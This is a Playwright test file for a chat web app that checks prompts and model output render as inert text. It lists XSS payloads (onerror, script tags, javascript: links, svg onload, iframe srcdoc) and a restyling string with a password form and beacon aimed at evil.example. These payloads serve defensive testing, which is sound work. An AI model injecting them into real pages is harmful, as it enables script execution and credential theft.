"""HTML and JavaScript in prompts and in LLM output are shown inert: no handler fires, in the chat or history."""

from __future__ import annotations

from playwright.sync_api import expect

from devtools.fake_llm import Reply
from tests.e2e.conftest import last_message, send

PAYLOADS = [
    '<img src=x onerror="window.__xss=\'img\'">',
    "<script>window.__xss='script'</script>",
    "[click me](javascript:window.__xss='link')",
    '<a href="javascript:window.__xss=\'href\'">a link</a>',
    '<svg onload="window.__xss=\'svg\'"></svg>',
    '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
    '<details open ontoggle="window.__xss=\'details\'">x</details>',
]


def test_hostile_prompt_and_answer_render_inert(page, fake_llm):
    hostile = "\n\n".join(PAYLOADS)
    fake_llm.script(Reply(tokens=[p + "\n\n" for p in PAYLOADS] + ["</script><b>still here</b>"]))
    send(page, hostile)
    message = last_message(page)
    expect(message.get_by_test_id("message-status")).to_have_text("Completed")
    answer = message.get_by_test_id("answer")
    expect(answer).to_contain_text("still here")
    dangerous = answer.locator("script, iframe, svg[onload], img[onerror], details[ontoggle]")
    assert dangerous.count() == 0, answer.inner_html()
    for link in answer.locator("a").all():
        assert not (link.get_attribute("href") or "").lower().startswith("javascript:")
        link.click(no_wait_after=True, force=True)
    user_bubble = message.get_by_test_id("bubble-user-" + message.get_attribute("data-job-id"))
    expect(user_bubble).to_contain_text("<script>")  # shown as text, not markup
    page.get_by_test_id("tab-history").click()
    expect(page.get_by_test_id("history-item").first).to_contain_text("<img")
    page.reload()
    expect(last_message(page).get_by_test_id("answer")).to_contain_text("still here")
    page.wait_for_timeout(500)
    assert page.evaluate("window.__xss") is None


RESTYLING = ('<style>body{display:none}</style>\n\n<div style="position:fixed;inset:0">cover</div>\n\n'
             '<form action="http://evil.example/"><input name=password></form>\n\n'
             '<img src="http://evil.example/beacon.png">\n\nstill here')


def test_model_output_cannot_restyle_the_page_or_reach_out(page, fake_llm):
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    chunks = [RESTYLING[i:i + 7] for i in range(0, len(RESTYLING), 7)]
    fake_llm.script(Reply(thinking=["<style>*{color:red}</style>"], tokens=chunks, token_delay=0.02))
    send(page, "restyle the page")
    for attempt in ("streamed", "reloaded"):
        message = last_message(page)
        expect(message.get_by_test_id("message-status")).to_have_text("Completed")
        answer = message.get_by_test_id("answer")
        for text in ("<style>body{display:none}</style>", '<div style="position:fixed;inset:0">cover</div>',
                     '<form action="http://evil.example/"><input name=password></form>',
                     '<img src="http://evil.example/beacon.png">', "still here"):
            expect(answer).to_contain_text(text)
        expect(message).to_be_visible()
        expect(page.get_by_test_id("message-input")).to_be_visible()
        inside = message.locator("form, input, img, style, iframe, [style*='fixed']")
        assert inside.count() == 0, f"{attempt}: {answer.inner_html()}"
        assert page.evaluate("getComputedStyle(document.body).display") != "none"
        page.reload()
    assert not [url for url in requests if "evil.example" in url], requests
